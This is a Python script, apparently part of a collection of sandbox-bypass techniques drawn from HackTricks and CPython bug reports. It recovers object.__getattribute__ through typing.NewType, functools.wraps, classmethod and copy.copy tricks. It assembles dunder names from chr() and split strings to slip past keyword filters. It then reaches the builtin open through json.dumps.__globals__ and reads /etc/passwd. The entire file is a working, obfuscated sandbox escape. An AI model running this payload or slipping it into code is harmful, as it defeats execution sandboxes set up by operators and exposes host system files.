# source: pickle/__reduce__ family (HackTricks "Bypass Python sandboxes"); CPython's method.__reduce__
#         url: https://github.com/python/cpython/issues/93889 ; https://github.com/python/cpython/issues/81478
#         = (getattr, (obj, func.__name__)); typing.NewType accepts any string as its __name__.
# family: run-time __name__ without setattr: typing.NewType(run-time name) -> @functools.wraps(nt) copies
#         __name__ onto a def -> classmethod bound to the script's class -> copy.copy (module reached as
#         ident(dataclasses).copy) replays getattr(C, "__getattribute__") -> object.__getattribute__.
# goal: json.dumps.__globals__['__builtins__']['open'] -> reads /etc/passwd.
import dataclasses
import functools
import json
import typing


def ident(m):
    return m


u = chr(95) * 2
nt = typing.NewType(u + "getattri" + "bute" + u, int)


@functools.wraps(nt)
def k(*args, **kwargs):
    return nt(*args, **kwargs)


class C:
    kk = classmethod(k)


ga = ident(dataclasses).copy.copy(C().kk)
print(ga)
g = ga(json.dumps, u + "glob" + "als" + u)
fo = g[u + "buil" + "tins" + u]["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
